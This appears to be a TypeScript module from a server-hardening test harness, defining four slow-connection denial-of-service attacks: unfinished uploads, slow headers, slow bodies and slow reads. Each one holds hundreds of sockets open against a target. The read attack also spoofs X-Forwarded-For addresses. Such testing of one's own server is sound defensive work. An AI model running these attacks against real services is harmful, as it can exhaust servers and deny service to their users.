// Attacks by connections that never finish: uploads, headers, bodies, and answers that nobody reads.
import net from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { counted, HELD_MS, tally, type Attack, type Target } from './target.ts'

const UPLOADS = 48
const CONNECTIONS = 300

type Opened = { readonly socket: net.Socket; readonly answer: { status: number; closed: boolean } }

function open(target: Target, first: string): Opened {
  const { hostname, port } = new URL(target.url)
  const socket = net.connect(Number(port), hostname)
  const answer = { status: 0, closed: false }
  socket.on('data', (data) => {
    if (answer.status === 0) answer.status = Number(/^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1] ?? 0)
  })
  socket.on('error', () => (answer.closed = true)).on('close', () => (answer.closed = true))
  socket.write(first)
  return { socket, answer }
}

/** Opens them all, sends a little on each now and then, and answers how they ended. */
async function hold(opened: readonly Opened[], crumb: string): Promise<string> {
  const until = performance.now() + HELD_MS
  while (performance.now() < until) {
    await delay(1_000)
    for (const { socket, answer } of opened) if (!answer.closed && crumb) socket.write(crumb)
  }
  const closed = opened.filter(({ answer }) => answer.closed).length
  const statuses = counted(tally(opened.map(({ answer }) => answer.status)))
  for (const { socket } of opened) socket.destroy()
  return `${statuses}; ${closed} closed by the server`
}

const many = (count: number, make: (number: number) => Opened): readonly Opened[] =>
  Array.from({ length: count }, (_, number) => make(number))

const head = (token: string, path: string, type: string, length: number): string =>
  [
    `POST ${path} HTTP/1.1`,
    'Host: localhost',
    `Authorization: Bearer ${token}`,
    `Content-Type: ${type}`,
    `Content-Length: ${length}`,
    '',
    '',
  ].join('\r\n')

export const slowConnections: readonly Attack[] = [
  {
    name: 'unfinished uploads',
    run: async (target) => {
      const begun = (number: number): string =>
        `${head(target.tokens[number % 2 === 0 ? 0 : 1], '/api/users/me/avatar', 'multipart/form-data; boundary=xx', 9_000_000)}--xx\r\n`
      return `${UPLOADS} by two accounts: ${await hold(
        many(UPLOADS, (number) => open(target, begun(number))),
        'x',
      )}`
    },
  },
  {
    name: 'slow headers',
    run: async (target) =>
      `${CONNECTIONS} connections: ${await hold(
        many(CONNECTIONS, () => open(target, 'GET / HTTP/1.1\r\nHost: localhost\r\n')),
        'x-a: b\r\n',
      )}`,
  },
  {
    name: 'slow bodies',
    run: async (target) => {
      const begun = `${head(target.tokens[0], '/api/quotes', 'application/json', 60_000)}{`
      return `${CONNECTIONS} connections: ${await hold(
        many(CONNECTIONS, () => open(target, begun)),
        ' ',
      )}`
    },
  },
  {
    name: 'slow reads',
    run: async (target) => {
      const opened = many(CONNECTIONS, (number) => {
        const ask = `GET /?read=${number} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 203.0.113.${number % 254}\r\n\r\n`
        const one = open(target, ask.repeat(8))
        one.socket.pause()
        return one
      })
      return `${CONNECTIONS} connections of 8 pages each: ${await hold(opened, '')}`
    },
  },
]
